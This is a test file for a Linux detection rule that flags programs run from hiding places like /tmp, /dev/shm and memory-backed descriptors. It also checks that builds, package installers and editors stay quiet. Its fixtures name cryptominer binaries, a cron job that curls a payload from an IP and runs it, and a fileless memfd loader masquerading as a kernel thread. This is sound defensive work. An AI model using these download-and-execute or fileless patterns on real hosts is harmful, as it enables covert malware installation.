import { describe, expect, it } from 'vitest';
import { Machine } from '../../../test/machine.ts';
import { make, tryOut } from '../testing.ts';
import { oddExecPlace } from './behaviour.ts';

const stage = (settings: Record<string, string[]> = {}): Machine => new Machine(oddExecPlace, { settings });

describe('a program in an odd place', () => {
  it.each([
    ['/tmp/kinsing', 'critical', 'high', 'low'], ['/var/tmp/.x/y', 'critical', 'high', 'high'], ['/dev/shm/kdevtmpfsi', 'critical', 'high', 'high'],
    ['/run/user/0/y', 'critical', 'high', 'low'], ['/opt/x (deleted)', undefined, undefined, undefined], ['/srv/x (deleted)', 'critical', 'critical', 'high'],
    ['/etc/.config-x/y', 'critical', 'high', 'medium'], ['/root/.systemd-private/y', 'critical', 'high', 'low'], ['/home/wang/.fly/bin/flyctl', 'critical', undefined, undefined],
    ['/tmp/x (deleted)', 'critical', 'critical', 'high'],
  ])('%s is judged by its origin: web, cron, a log-on', (path, web, cron, login) => {
    const origins: ((s: Machine) => number)[] = [(s) => s.worker(), (s) => s.cron('/opt/job'), (s) => s.login()];
    const told = origins.map((begin) => { const s = stage(); s.spawn(begin(s), path); return s.levels[0]; });
    expect(told).toEqual([web, cron, login]);
  });

  it('is a script too, where only hiding explains the place', () => {
    const s = stage();
    const shell = s.login();
    s.spawn(shell, '/usr/bin/bash', 'bash /dev/shm/x.sh');
    s.spawn(shell, '/usr/bin/python3.11', 'python3 -u .z/x.py', { process_cwd: '/tmp' });
    s.spawn(shell, '/usr/bin/bash', 'bash /tmp/install.sh');
    s.spawn(shell, '/usr/bin/bash', 'bash /dev/fd/63');
    expect(s.levels).toEqual(['high', 'high']);
  });

  it('is told once in ten minutes, with who wrote it', () => {
    const s = stage();
    const curl = s.spawn(s.cron('x'), '/usr/bin/curl', 'curl -o /tmp/x http://198.51.100.7/x');
    s.file(curl, 'create', '/tmp/x');
    for (let i = 0; i < 5; i++) s.spawn(s.cron('x'), '/tmp/x');
    expect(s.levels).toEqual(['high']);
    expect(s.found[0]?.group).toMatchObject({ writer: `/usr/bin/curl[${curl}]` });
    s.later(601_000);
    s.spawn(s.cron('x'), '/tmp/x');
    expect(s.levels).toHaveLength(2);
  });
});

describe('memory', () => {
  it('a loader of an interpreter or unknown program', () => {
    const s = stage();
    const python = s.spawn(s.login(), '/usr/bin/python3.11', 'python3 -c import os;…');
    s.exec(python, '/memfd:x (deleted)', '[kworker/0:1]', { extra: { memfd: 'true' } });
    expect(s.levels).toEqual(['critical']);
    const t = stage();
    t.exec(t.spawn(t.worker(), '/var/www/loader'), '/proc/self/fd/3', 'x');
    expect(t.levels).toEqual(['critical']);
  });

  it('a container runtime that copies itself', () => {
    const s = stage();
    const shim = s.seen('/usr/bin/containerd-shim-runc-v2', 'containerd-shim', { pid: 400 });
    const runc = s.spawn(shim, '/usr/sbin/runc', 'runc init');
    s.exec(runc, '/memfd:runc_cloned:/proc/self/exe (deleted)', 'runc init', { extra: { memfd: 'true' } });
    expect(s.levels).toEqual([]);
  });
});

it('builds, installers, package scripts, updates and editors stay quiet', () => {
  const s = stage({ allow: ['/var/tmp/farm/'] });
  const shell = s.login();
  const apt = s.spawn(shell, '/usr/bin/apt-get', 'apt-get install -y tzdata');
  const dpkg = s.spawn(apt, '/usr/bin/dpkg', 'dpkg --configure tzdata');
  s.spawn(dpkg, '/tmp/tzdata.config.Ab12Cd', '/tmp/tzdata.config.Ab12Cd configure');
  s.spawn(s.spawn(apt, '/usr/sbin/dpkg-preconfigure', 'dpkg-preconfigure --apt'), '/tmp/anything');
  const npm = s.spawn(shell, '/usr/bin/node', 'npm install esbuild');
  s.spawn(s.spawn(npm, '/usr/bin/dash', 'sh -c node install.js'), '/tmp/npm-123/esbuild');
  for (const path of ['/tmp/go-build123/b001/exe/main', '/tmp/cargo-installAbC/release/build/x/build-script-build', '/tmp/pip-build-env-x/overlay/bin/cmake', '/tmp/x/conftest', '/tmp/p/node_modules/.bin/node-gyp-build', '/tmp/p/.venv/bin/pytest', '/tmp/build/CMakeFiles/CMakeScratch/TryCompile-a/cmTC_b', '/tmp/selfgz12/install', '/tmp/.mount_appXyz/usr/bin/app', '/home/wang/.cargo/bin/cargo', '/home/wang/.local/bin/poetry', '/home/wang/.vscode-server/bin/a/node', '/home/wang/app/node_modules/.bin/vite', '/home/wang/app/.venv/bin/python', '/var/tmp/farm/job', '/usr/sbin/sshd (deleted)', '/usr/lib/systemd/systemd']) s.spawn(shell, path);
  s.spawn(1, '/usr/bin/dash', 'sh /var/lib/cloud/instance/scripts/part-001');
  expect(s.found.map((d) => [d.level, d.key])).toEqual([]);
});

it('without a lineage it judges by the place alone', () => {
  const { run, found } = tryOut(oddExecPlace);
  run.observe(make('process_creation', 1, { action: 'process-start', process_path: '/tmp/x', process_cmdline: 'x' }));
  run.observe(make('process_creation', 2, { action: 'process-seen', process_path: '/tmp/y', process_cmdline: 'y' }));
  expect(found.map((d) => d.level)).toEqual(['high']);
});
